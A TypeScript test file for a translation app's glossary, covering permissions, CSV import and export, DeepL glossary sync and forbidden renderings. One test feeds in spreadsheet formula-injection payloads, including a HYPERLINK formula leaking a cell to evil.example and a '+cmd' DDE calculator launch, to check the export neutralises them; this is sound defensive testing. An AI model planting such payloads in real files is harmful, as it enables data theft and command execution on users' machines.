import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { deeplTranslator } from '../../src/providers/mt/deepl';
import { type DeepLStandIn, startDeepLStandIn } from '../helpers/deepl-stand-in';
import { importText, segmentsOf, type TestApp, testApp } from '../helpers/test-app';

let deepl: DeepLStandIn;
let t: TestApp;
let projectId: number;
beforeEach(async () => {
  deepl = await startDeepLStandIn();
  t = await testApp({ machineTranslator: deeplTranslator({ authKey: deepl.authKey, serverUrl: deepl.url, maxRetries: 1 }) });
  projectId = (await t.services.projects.create({ name: 'Newsroom' }, undefined, { name: 'camille' })).id;
});
afterEach(async () => {
  await t.cleanup();
  await deepl.close();
});

const send = (method: string, path: string, body: unknown, as = t.app) => as.request(path, { method, headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
const upload = (content: string, name = 'glossary.csv') => {
  const form = new FormData();
  form.append('file', new File([content], name));
  return t.app.request(`/api/projects/${projectId}/glossary/import`, { method: 'POST', body: form });
};
const list = async () => ((await (await t.app.request(`/api/projects/${projectId}/glossary`)).json()) as { items: { id: number; source: string; target: string; notes: string }[] }).items;

describe('the glossary', () => {
  it('is kept by reviewers and owners, read by everyone in the project, one entry per French term', async () => {
    const reviewer = await t.user('renee', 'reviewer', projectId);
    const translator = await t.user('sacha', 'translator', projectId);
    const added = await send('POST', `/api/projects/${projectId}/glossary`, { source: 'Assemblée nationale', target: 'National Assembly', notes: 'Capitalised.' }, reviewer);
    expect(added.status).toBe(201);
    const term = (await added.json()) as { id: number };
    expect((await send('POST', `/api/projects/${projectId}/glossary`, { source: 'assemblée NATIONALE', target: 'x' })).status).toBe(409);
    expect((await send('POST', `/api/projects/${projectId}/glossary`, { source: 'préfet', target: 'prefect' }, translator)).status).toBe(403);
    expect((await send('POST', `/api/projects/${projectId}/glossary`, { source: '  ', target: 'x' })).status).toBe(400);
    expect(await (await translator.request(`/api/projects/${projectId}/glossary`)).json()).toMatchObject({ items: [{ source: 'Assemblée nationale', target: 'National Assembly', notes: 'Capitalised.' }] });
    expect(await (await send('PATCH', `/api/glossary/${term.id}`, { target: 'French National Assembly' }, reviewer)).json()).toMatchObject({ target: 'French National Assembly' });
    expect((await t.app.request(`/api/glossary/${term.id}`, { method: 'DELETE' })).status).toBe(204);
    expect(await list()).toEqual([]);
  });

  it('exports and imports CSV, updating existing terms, all or nothing', async () => {
    await send('POST', `/api/projects/${projectId}/glossary`, { source: 'préfet', target: 'prefect', notes: 'Not "prefect" of a school, a state official.' });
    const csv = await (await t.app.request(`/api/projects/${projectId}/glossary/export?format=csv`)).text();
    expect(csv).toBe('source,target,notes,forbidden\npréfet,prefect,"Not ""prefect"" of a school, a state official.",\n');
    expect(await (await upload('préfet;Prefect\nmairie;town hall\n')).json()).toEqual({ added: 1, updated: 1 });
    expect((await list()).map((term) => [term.source, term.target])).toEqual([
      ['mairie', 'town hall'],
      ['préfet', 'Prefect'],
    ]);
    const bad = await upload('source,target\nconseil,council\nsans traduction,\n');
    expect(bad.status).toBe(400);
    // The line of the file: the header is line 1.
    expect(((await bad.json()) as { detail: string }).detail).toContain('Line 3');
    expect(await list()).toHaveLength(2);
  });

  it('neutralises spreadsheet formulas in the CSV export and reads its own export back unchanged', async () => {
    const dangerous = [
      { source: '=HYPERLINK("http://evil.example/?"&A1,"cliquez")', target: 'click', notes: '=1+1' },
      { source: "+cmd|' /C calc'!A0", target: 'calculator', notes: '' },
      { source: '@SUM(1+1)', target: '@mention', notes: '-2+3+cmd' },
      { source: '-ième', target: '-th', notes: 'suffixe ordinal' },
      { source: "'=déjà protégé", target: "'quoted'", notes: '' },
    ];
    for (const term of dangerous) expect((await send('POST', `/api/projects/${projectId}/glossary`, term)).status).toBe(201);
    const csv = await (await t.app.request(`/api/projects/${projectId}/glossary/export?format=csv`)).text();
    const cells = csv
      .trim()
      .split('\n')
      .slice(1)
      .flatMap((line) => line.split(','))
      .map((cell) => cell.replace(/^"/u, ''));
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/u);
    expect(csv).toContain("'-ième,'-th,suffixe ordinal");
    expect(csv).toContain("'+cmd|' /C calc'!A0,calculator,");

    // The same terms in another project, from the export alone.
    const other = (await t.services.projects.create({ name: 'Copie' }, undefined, { name: 'camille' })).id;
    const form = new FormData();
    form.append('file', new File([csv], 'glossary.csv'));
    expect(await (await t.app.request(`/api/projects/${other}/glossary/import`, { method: 'POST', body: form })).json()).toEqual({ added: 5, updated: 0 });
    const copied = ((await (await t.app.request(`/api/projects/${other}/glossary`)).json()) as { items: { source: string; target: string; notes: string }[] }).items;
    const pick = (terms: { source: string; target: string; notes: string }[]) =>
      terms.map(({ source, target, notes }) => ({ source, target, notes })).sort((a, b) => a.source.localeCompare(b.source));
    expect(pick(copied)).toEqual(pick(dangerous));
  });

  it('neutralises formulas after every semicolon, comma or tab, for French spreadsheets, and reads them back', async () => {
    const terms = [
      { source: 'n;=1+1;', target: 'n;@SUM(1+1)', notes: 'voir,-2+3+cmd\t+1' },
      { source: "déjà;'=protégé", target: 'already', notes: 'citation;"=1+1"' },
    ];
    for (const term of terms) expect((await send('POST', `/api/projects/${projectId}/glossary`, term)).status).toBe(201);
    const csv = await (await t.app.request(`/api/projects/${projectId}/glossary/export?format=csv`)).text();
    expect(csv).toContain(`"n;'=1+1;","n;'@SUM(1+1)","voir,'-2+3+cmd\t'+1"`);
    // What French Excel (`;`), English Excel (`,`) or a tab-separated reader makes of the lines,
    // even when it does not honour our quotation marks: no part starts a formula.
    for (const separators of [/[;\n]/u, /[,\n]/u, /[\t\n]/u]) for (const part of csv.split(separators)) expect(part).not.toMatch(/^"*[=+\-@\t\r]/u);

    const other = (await t.services.projects.create({ name: 'Copie' }, undefined, { name: 'camille' })).id;
    const form = new FormData();
    form.append('file', new File([csv], 'glossary.csv'));
    expect(await (await t.app.request(`/api/projects/${other}/glossary/import`, { method: 'POST', body: form })).json()).toEqual({ added: 2, updated: 0 });
    const copied = ((await (await t.app.request(`/api/projects/${other}/glossary`)).json()) as { items: { source: string; target: string; notes: string }[] }).items;
    expect(copied.map(({ source, target, notes }) => ({ source, target, notes })).sort((a, b) => a.source.localeCompare(b.source))).toEqual(
      [...terms].sort((a, b) => a.source.localeCompare(b.source)),
    );
  });

  it('goes to DeepL as a glossary with the translations, and again when it changes', async () => {
    const id = await importText(t.app, 'Le préfet a parlé.', 'txt', 'Brève', projectId);
    const [segment] = (await segmentsOf(t.app, id)).items;
    await t.app.request(`/api/segments/${segment!.id}/suggestions`);
    expect(deepl.translations()[0]!.form.get('glossary_id')).toBeNull();
    const term = (await (await send('POST', `/api/projects/${projectId}/glossary`, { source: 'préfet', target: 'prefect' })).json()) as { id: number };
    await t.app.request(`/api/segments/${segment!.id}/suggestions`);
    const first = deepl.translations()[1]!.form.get('glossary_id');
    expect(first).toMatch(/^glossary-/u);
    expect([...deepl.glossaries.values()]).toEqual([expect.objectContaining({ source_lang: 'fr', target_lang: 'en', entries: 'préfet\tprefect' })]);
    await send('PATCH', `/api/glossary/${term.id}`, { target: 'Prefect' });
    await t.app.request(`/api/segments/${segment!.id}/suggestions`);
    const second = deepl.translations()[2]!.form.get('glossary_id');
    expect(second).not.toBe(first);
    expect([...deepl.glossaries.keys()]).toEqual([second]);
  });

  it('sends DeepL one English per term, and not the entries that only forbid', async () => {
    const id = await importText(t.app, 'Le préfet est actuellement à Paris.', 'txt', 'Brève', projectId);
    const [segment] = (await segmentsOf(t.app, id)).items;
    expect((await send('POST', `/api/projects/${projectId}/glossary`, { source: 'préfet', target: 'prefect; Prefect', forbidden: 'governor' })).status).toBe(201);
    expect((await send('POST', `/api/projects/${projectId}/glossary`, { source: 'actuellement', target: '', forbidden: 'actually' })).status).toBe(201);
    await t.app.request(`/api/segments/${segment!.id}/suggestions`);
    expect([...deepl.glossaries.values()].map((glossary) => glossary.entries)).toEqual(['préfet\tprefect']);
  });
});

describe('renderings not to use', () => {
  it('are kept with the entry, may be all it says, and are refused when they are also the English to use', async () => {
    const added = await send('POST', `/api/projects/${projectId}/glossary`, { source: 'actuellement', target: '', forbidden: ' actually ;; ' });
    expect(added.status).toBe(201);
    expect(await added.json()).toMatchObject({ source: 'actuellement', target: '', forbidden: 'actually' });
    const both = await send('POST', `/api/projects/${projectId}/glossary`, { source: 'éventuellement', target: 'possibly; eventually', forbidden: 'Eventually' });
    expect(both.status).toBe(400);
    expect(((await both.json()) as { detail: string }).detail).toBe('“Eventually” cannot be both the English to use for “éventuellement” and a rendering not to use.');
    const empty = await send('POST', `/api/projects/${projectId}/glossary`, { source: 'éventuellement', target: ' ', forbidden: ' ; ' });
    expect(empty.status).toBe(400);
    expect(((await empty.json()) as { detail: string }).detail).toContain('needs an English term, or English renderings not to use');
    expect((await send('POST', `/api/projects/${projectId}/glossary`, { source: 'x', target: 'y', forbidden: 'z'.repeat(1001) })).status).toBe(400);
    expect(await list()).toHaveLength(1);
  });

  it('travel in the CSV, read by column name whatever the order, and a translation using one is an error', async () => {
    const imported = await upload('English;Not to use;French\nmayor;major;maire\n;actually;actuellement\n');
    expect(await imported.json()).toEqual({ added: 2, updated: 0 });
    expect((await list()).map(({ source, target, forbidden }: { source: string; target: string; forbidden?: string }) => [source, target, forbidden])).toEqual([
      ['actuellement', '', 'actually'],
      ['maire', 'mayor', 'major'],
    ]);
    const csv = await (await t.app.request(`/api/projects/${projectId}/glossary/export`)).text();
    expect(csv).toBe('source,target,notes,forbidden\nactuellement,,,actually\nmaire,mayor,,major\n');
    // A line that says neither the English nor what not to use: refused, with its line in the file.
    const bad = await upload('source,target,forbidden\npréfet,prefect,\nsous-préfet,,\n');
    expect(bad.status).toBe(400);
    expect(((await bad.json()) as { detail: string }).detail).toMatch(/^Line 3: /u);

    const id = await importText(t.app, 'Le maire est actuellement absent.', 'txt', 'Brève', projectId);
    const [segment] = (await segmentsOf(t.app, id)).items;
    const refused = await send('PATCH', `/api/segments/${segment!.id}`, { target: 'The major is actually away.', status: 'translated', version: 1 });
    expect(refused.status).toBe(200);
    const held = (await refused.clone().json()) as { status: string; heldForQa: boolean };
    expect(held).toMatchObject({ status: 'draft', heldForQa: true });
    const findings = ((await refused.json()) as { findings: Array<{ key: string; severity: string; targetSpans: Array<{ start: number; end: number }>; suggestion: string | null }> }).findings;
    expect(findings.map((finding) => [finding.key, finding.severity, finding.suggestion])).toEqual([
      ['glossary', 'warning', null],
      ['glossaryForbidden', 'error', 'The mayor is actually away.'],
      ['glossaryForbiddenAlone', 'error', null],
      // The built-in false-friends check knows this one too, glossary or not.
      ['falseFriend', 'warning', null],
    ]);
    expect(findings[2]!.targetSpans.map((span) => 'The major is actually away.'.slice(span.start, span.end))).toEqual(['actually']);
    expect(await (await send('PATCH', `/api/segments/${segment!.id}`, { target: 'The mayor is currently away.', status: 'translated', version: 2 })).json()).toMatchObject({ status: 'translated', heldForQa: false });
  });
});
